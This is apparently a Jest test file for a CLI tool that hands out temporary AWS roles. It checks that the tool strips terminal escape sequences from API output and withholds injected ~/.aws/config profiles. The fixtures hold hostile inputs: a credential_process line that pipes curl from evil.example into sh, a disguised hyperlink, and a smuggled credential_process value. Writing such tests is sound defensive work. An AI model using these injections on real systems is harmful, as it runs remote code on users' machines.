import { main } from '../../../src/cli/main';

/*
 * A hostile or broken --api controls much of what the CLI prints: it must
 * not reach the terminal as escape sequences or control characters, and the
 * ~/.aws/config profile people paste must hold only lines rolegate writes.
 * The fake fetch plays the wire.
 */

const API = 'http://127.0.0.1:3000';
const ALICE = 'arn:aws:iam::111111111111:user/alice';
const ANNA = 'arn:aws:iam::111111111111:user/lead-anna';
const ID = '01KJNWP2NA4Z6K8N0Q5R7S9T1V';
const ROLE = 'arn:aws:iam::333333333333:role/rolegate/rg-production-ReadOnly';
const AT = '2026-11-24T09:00:00.000Z';

async function run(argv: string[], status: number, body: unknown) {
  const fetch = (async () => new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json' } })) as typeof globalThis.fetch;
  const out: string[] = [];
  const err: string[] = [];
  const code = await main([...argv, '--api', API, '--as', ALICE], { out: (l) => out.push(l), err: (l) => err.push(l), env: {}, fetch });
  return { code, out, err };
}

const request = (fields: Record<string, unknown>) => ({
  id: ID,
  status: 'DENIED',
  principalArn: ALICE,
  profile: 'ReadOnly',
  accountAlias: 'production',
  accountId: '333333333333',
  durationMinutes: 60,
  requester: ALICE,
  createdAt: AT,
  reason: 'Logs',
  ...fields,
});

describe('the CLI prints no terminal control from the API', () => {
  it('strips escape sequences and control characters from an error and its details', async () => {
    const r = await run(['show', ID], 400, {
      error: 'VALIDATION_FAILED',
      message: 'Bad\x1b[2J\x1b[H input\r',
      details: [{ field: 'reason\x07', reason: '\x1b]8;;https://evil.example\x07click\x1b]8;;\x1b\\ me\x9b31m' }],
    });

    expect(r.code).toBe(1);
    expect(r.err).toEqual(['Error 400 VALIDATION_FAILED: Bad input\n  - reason: click me']);
  });

  it('strips them from the request fields, decisions and audit events it shows, keeping tabs and line breaks', async () => {
    const detail = {
      request: request({ reason: 'Logs\x1b[8m hidden\x1b[0m\tand more', ticket: 'OPS-1\x7f' }),
      decisions: [{ decision: 'DENY', approver: ANNA, at: AT, comment: 'no\x85 way\x1bc' }],
      events: [{ at: AT, action: 'REQUESTED', actor: `${ALICE}\x1b(0`, comment: 'line one\nline two\x00' }],
    };
    const r = await run(['show', ID], 200, detail);

    expect(r.code).toBe(0);
    expect(r.out).toEqual([
      [
        `${ID}  DENIED`,
        `  ${ALICE} → ReadOnly in production (333333333333) for 60 min`,
        `  requested by ${ALICE} at ${AT}: Logs hidden\tand more [OPS-1]`,
        '  decisions:',
        `    DENY by ${ANNA} at ${AT}: no way`,
        '  audit:',
        `    ${AT}  REQUESTED          ${ALICE}: line one\nline two`,
      ].join('\n'),
    ]);
  });

  it('shows the person behind each principal (an Identity Center user behind a shared role), so two leads of one role tell apart', async () => {
    const detail = {
      request: request({ requesterPerson: 'alice' }),
      decisions: [{ decision: 'APPROVE', approver: ANNA, person: 'anna\x1b[2J', at: AT }],
      events: [{ at: AT, action: 'PROVISIONING_ATTEMPT_FAILED', actor: ANNA, actorPerson: 'anna' }],
    };
    const r = await run(['show', ID], 200, detail);

    expect(r.code).toBe(0);
    expect(r.out[0]!.split('\n').filter((l) => /requested by|APPROVE by|PROVISIONING/.test(l))).toEqual([
      `  requested by ${ALICE} (alice) at ${AT}: ${request({}).reason}`,
      `    APPROVE by ${ANNA} (anna) at ${AT}`,
      `    ${AT}  PROVISIONING_ATTEMPT_FAILED ${ANNA} (anna)`,
    ]);
  });

  it('shows how each change came, and from where when the API shows it (to responders)', async () => {
    const session = 'arn:aws:sts::111111111111:assumed-role/security-oncall/jo';
    const detail = {
      request: request({}),
      decisions: [],
      events: [
        { at: AT, action: 'REQUESTED', actor: ALICE, source: { via: 'api' } },
        { at: AT, action: 'APPROVAL_RECORDED', actor: ANNA, source: { via: 'slack', slackUser: 'U0LEADANNA' } },
        { at: AT, action: 'REVOKED', actor: ANNA, source: { via: 'api', session, sourceIp: '192.0.2.44', userAgent: 'aws-cli/2' }, comment: 'incident' },
        { at: AT, action: 'ACCESS_REMOVED', actor: 'rolegate' },
      ],
    };
    const r = await run(['show', ID], 200, detail);

    expect(r.code).toBe(0);
    expect(r.out[0]!.split('\n').slice(-4)).toEqual([
      `    ${AT}  REQUESTED          ${ALICE} via api`,
      `    ${AT}  APPROVAL_RECORDED  ${ANNA} via slack [U0LEADANNA]`,
      `    ${AT}  REVOKED            ${ANNA} via api [192.0.2.44 ${session}]: incident`,
      `    ${AT}  ACCESS_REMOVED     rolegate`,
    ]);
  });

  it('escapes DEL and C1 in --json output, as JSON.stringify does C0, so the document stays whole', async () => {
    const reason = 'a\x1b[31mb\x9b"}c\x7fd\x85';
    const r = await run(['list', '--json'], 200, { items: [request({ reason })] });

    expect(r.code).toBe(0);
    expect(r.out).toHaveLength(1);
    expect(r.out[0]).toContain('"reason": "a\\u001b[31mb\\u009b\\"}c\\u007fd\\u0085"');
    expect(JSON.parse(r.out[0]!).items[0].reason).toBe(reason);
  });
});

describe('the CLI prints the API’s ~/.aws/config profile only as rolegate writes it', () => {
  const WRITTEN = [
    '[profile production-ReadOnly]',
    `role_arn = ${ROLE}`,
    'source_profile = default',
    'mfa_serial = arn:aws:iam::111111111111:mfa/alice',
    'external_id = team-a:billing/2026',
    'duration_seconds = 3600',
  ].join('\n');
  const WITHHELD = '(not shown: the API sent a profile with lines rolegate never writes)';

  async function profileShown(cliProfile: unknown): Promise<string> {
    const access = { roleArn: ROLE, switchRoleUrl: 'https://signin.aws.amazon.com/switchrole', endsAt: AT, cliProfile, note: 'IAM is eventually consistent.' };
    const r = await run(['show', ID], 200, { request: request({ status: 'ACTIVE', access }), decisions: [], events: [] });
    expect(r.code).toBe(0);
    const lines = r.out.join('\n').split('\n');
    expect(lines.slice(lines.indexOf('~/.aws/config:') - 4, lines.indexOf('~/.aws/config:'))).toEqual([`Role: ${ROLE}`, 'Console: https://signin.aws.amazon.com/switchrole', `Until: ${AT}`, '']);
    expect(lines.slice(-2)).toEqual(['', 'IAM is eventually consistent.']);
    return lines.slice(lines.indexOf('~/.aws/config:') + 1, -2).join('\n');
  }

  it('prints a profile of the lines rolegate writes as it is, and withholds it with a credential_process line', async () => {
    expect(await profileShown(WRITTEN)).toBe(WRITTEN);
    expect(await profileShown(`${WRITTEN}\ncredential_process = /bin/sh -c "curl -s https://evil.example | sh"`)).toBe(WITHHELD);
  });

  it.each([
    ['a second section', `${WRITTEN}\n[profile prod]\nrole_arn = arn:aws:iam::999999999999:role/x`],
    ['a [default] header', WRITTEN.replace('[profile production-ReadOnly]', '[default]')],
    ['no header', WRITTEN.split('\n').slice(1).join('\n')],
    ['a header alone', '[profile production-ReadOnly]'],
    ['a value with more after it', WRITTEN.replace('source_profile = default', 'source_profile = default ; credential_process = x')],
    ['an sso key', `${WRITTEN}\nsso_start_url = https://evil.example/start`],
    ['a profile that is not text', 42],
  ])('withholds a profile with %s', async (_what, cliProfile) => {
    expect(await profileShown(cliProfile)).toBe(WITHHELD);
  });
});
